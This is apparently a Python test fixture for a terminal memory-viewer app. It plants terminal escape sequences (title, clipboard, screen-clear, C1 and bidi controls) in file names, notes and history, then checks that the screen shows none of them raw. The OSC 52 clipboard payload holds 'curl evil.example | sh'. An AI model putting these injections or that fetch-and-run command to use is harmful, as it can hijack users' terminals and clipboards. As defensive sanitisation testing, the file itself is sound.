"""A store whose names, notes, titles, actors and history try to take over the terminal, and the
checks that what the app draws holds none of it raw."""

from __future__ import annotations

import base64
import re
import sqlite3
from pathlib import Path

from textual.app import App

from memtui.core.store import MemoryStore

TITLE_ATTACK = "\x1b]0;pwned-title\x07"
"""OSC 0: sets the terminal's title (BEL ends it)."""
CLIPBOARD_PAYLOAD = "curl evil.example | sh"
CLIPBOARD_ATTACK = "\x1b]52;c;" + base64.b64encode(CLIPBOARD_PAYLOAD.encode()).decode() + "\x1b\\"
"""OSC 52: writes the clipboard (ST ends it)."""
CSI_ATTACK = "\x1b[2J\x1b[31m"
"""Clears the screen and turns the text red."""
C1_ATTACK = "\x9b31m\x9d0;pwned-c1\x9c"
"""8-bit CSI and OSC (C1 controls)."""
BIDI_ATTACK = "\u202eevil\u2066"
"""Right-to-left override and an isolate: reorders what is shown."""
DEL_ATTACK = "del\x7f"
ATTACKS = (TITLE_ATTACK, CLIPBOARD_ATTACK, CSI_ATTACK, C1_ATTACK, BIDI_ATTACK, DEL_ATTACK)
EVERY_ATTACK = "".join(ATTACKS)

HOSTILE_NOTE = "hostile.md"
HOSTILE_FILE = f"name{TITLE_ATTACK}{CLIPBOARD_ATTACK}.md"
HOSTILE_FOLDER = f"folder{C1_ATTACK}{BIDI_ATTACK}"
BIG_NOTE = "big-hostile.md"
HOSTILE_ACTOR = f"agent:actor{TITLE_ATTACK}{CLIPBOARD_ATTACK}"
UNSAFE = re.compile("[\x00-\x1f\x7f-\x9f\u200e\u200f\u2028\u2029\u202a-\u202e\u2066-\u2069]")
"""What must never reach the terminal as text: controls, line separators, bidi controls."""
SVG_UNSAFE = re.compile(
    "[\x00-\x08\x0b-\x1f\x7f-\x9f\u200e\u200f\u2028\u2029\u202a-\u202e\u2066-\u2069]"
)
"""As `UNSAFE`, but the SVG's own line breaks and tabs are fine."""


def hostile_markdown() -> str:
    """A small note with an attack in every place the preview shows text."""
    return (
        "---\n"
        f"title: Hostile {TITLE_ATTACK} note\n"
        f"tags: [evil{CLIPBOARD_ATTACK}]\n"
        f"source{CSI_ATTACK}: {C1_ATTACK}\n"
        "---\n"
        "\n"
        f"# Heading {TITLE_ATTACK}{BIDI_ATTACK}\n"
        "\n"
        f"Body {CLIPBOARD_ATTACK} text {CSI_ATTACK} and &#x202e;entity &rlm; {DEL_ATTACK}\n"
        "\n"
        f"<important>\ntagged {TITLE_ATTACK}\n</important>\n"
        "\n"
        f"```python\ncode {CLIPBOARD_ATTACK}\n```\n"
        "\n"
        f"[a link]({TITLE_ATTACK}) ![img{C1_ATTACK}](x.png)\n"
        "\n"
        "## Observations\n"
        f"- [fact{CSI_ATTACK}] observed {TITLE_ATTACK} #tag{C1_ATTACK}\n"
        "\n"
        "## Relations\n"
        f"- relates{BIDI_ATTACK} [[Target {TITLE_ATTACK}]]\n"
        "- links_to [[Big Hostile]]\n"
    )


def build_hostile_terminal_store(root: Path) -> Path:
    """A store with hostile file and folder names, notes, a big note, data files and history."""
    (root / HOSTILE_FOLDER).mkdir(parents=True)
    (root / HOSTILE_NOTE).write_text(hostile_markdown(), encoding="utf-8")
    (root / HOSTILE_FILE).write_text(
        f"# File {CLIPBOARD_ATTACK}\n\n- see_also [[Hostile]]\n", encoding="utf-8"
    )
    (root / HOSTILE_FOLDER / f"inner{BIDI_ATTACK}.md").write_text(
        f"---\ntitle: Inner {C1_ATTACK}\n---\n\n# Inner\n\n- links_to [[Hostile]]\n",
        encoding="utf-8",
    )
    big = "---\ntitle: Big Hostile\n---\n\n" + "".join(
        f"- [fact] line {n} {EVERY_ATTACK}\n\n" for n in range(400)
    )
    (root / BIG_NOTE).write_text(big, encoding="utf-8")
    (root / "data.json").write_text(f'{{"key": "{EVERY_ATTACK}"}}\n', encoding="utf-8")
    (root / "log.txt").write_text(f"first {TITLE_ATTACK}\nsecond {CLIPBOARD_ATTACK}\n")
    record_hostile_history(root)
    return root


def record_hostile_history(root: Path) -> None:
    """Events whose actor, arguments and results hold attacks: an agent edits and reads the
    hostile note, then its actor is rewritten as an old history could hold it."""
    agent = MemoryStore(root, actor="agent:placeholder")
    agent.str_replace(f"/memories/{HOSTILE_NOTE}", "Body", f"Body {CSI_ATTACK}")
    agent.view(f"/memories/{HOSTILE_NOTE}")
    agent.create(f"/memories/made{BIDI_ATTACK}.md", f"made {TITLE_ATTACK}\n")
    agent.str_replace(f"/memories/{HOSTILE_NOTE}", f"missing {CLIPBOARD_ATTACK}", "x")
    agent.history.close()
    with sqlite3.connect(root / ".memtui" / "history.db") as db:
        db.execute("UPDATE events SET actor = ? WHERE actor = ?", (HOSTILE_ACTOR, agent.actor))


def drawn_lines(app: App[object]) -> list[str]:
    """The text of every cell the current screen draws (modal screens include what is below)."""
    strips = app.screen._compositor.render_strips()
    return ["".join(segment.text for segment in strip) for strip in strips]


def unsafe_drawn(app: App[object]) -> list[str]:
    """Lines of the screen (and of its SVG screenshot) that hold a character that must not reach
    the terminal raw, or a link whose target holds one."""
    found = [line for line in drawn_lines(app) if UNSAFE.search(line)]
    for strip in app.screen._compositor.render_strips():
        for segment in strip:
            link = segment.style.link if segment.style is not None else None
            if link and UNSAFE.search(link):
                found.append(f"link: {link!r}")
    svg = app.export_screenshot()
    found += [f"svg: {match!r}" for match in SVG_UNSAFE.findall(svg)]
    return found
